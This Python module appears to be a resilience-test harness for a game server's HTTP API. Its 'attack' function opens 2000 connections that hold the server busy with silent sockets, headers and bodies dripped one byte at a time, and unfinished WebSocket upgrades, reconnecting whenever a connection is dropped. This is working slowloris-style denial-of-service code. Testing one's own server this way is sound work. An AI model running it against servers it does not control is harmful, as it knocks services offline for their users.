"""Connections that are there and say nothing, or next to nothing, for as long as they may."""

import asyncio
import contextlib
import time
from collections.abc import Awaitable, Callable

from .raw import GONE, closing, connect, head

CONNECTIONS = 2000
"""As many as a server has room for by default."""

DRIP = 1.0
"""Seconds between two bytes."""

UPGRADE = (
    "Upgrade: websocket",
    "Connection: Upgrade",
    "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
    "Sec-WebSocket-Version: 13",
)


async def attack(url: str, seconds: float) -> None:
    until = time.monotonic() + seconds
    kinds = [silence, dripping_head, dripping_body, unfinished_upgrade, no_hello]
    await asyncio.gather(
        *(again(kinds[number % len(kinds)], url, until) for number in range(CONNECTIONS))
    )


async def again(kind: Callable[[str, float], Awaitable[None]], url: str, until: float) -> None:
    """Who is sent away comes back."""
    while time.monotonic() < until:
        with contextlib.suppress(*GONE):
            await kind(url, until)
        await asyncio.sleep(max(0.0, min(DRIP, until - time.monotonic())))


async def hold(url: str, until: float, first: bytes, drip: bytes = b"") -> None:
    """Until the server has enough of it."""
    reader, writer = await connect(url)
    with closing(writer):
        writer.write(first)
        while (left := until - time.monotonic()) > 0:
            try:
                async with asyncio.timeout(min(DRIP, left)):
                    if not await reader.read(65536):
                        return
            except TimeoutError:
                writer.write(drip)
                await writer.drain()


async def silence(url: str, until: float) -> None:
    await hold(url, until, b"")


async def dripping_head(url: str, until: float) -> None:
    await hold(url, until, b"GET / HTTP/1.1\r\nX: ", b"x")


async def dripping_body(url: str, until: float) -> None:
    lines = ["Content-Type: application/json", "Content-Length: 60000"]
    await hold(url, until, head(url, "POST", "/api/players", *lines), b" ")


async def unfinished_upgrade(url: str, until: float) -> None:
    """A body is announced, so the upgrade is not complete."""
    path = "/api/tables/no-such-table/socket"
    await hold(url, until, head(url, "GET", path, *UPGRADE, "Content-Length: 60000"), b" ")


async def no_hello(url: str, until: float) -> None:
    await hold(url, until, head(url, "GET", "/api/tables/no-such-table/socket", *UPGRADE))
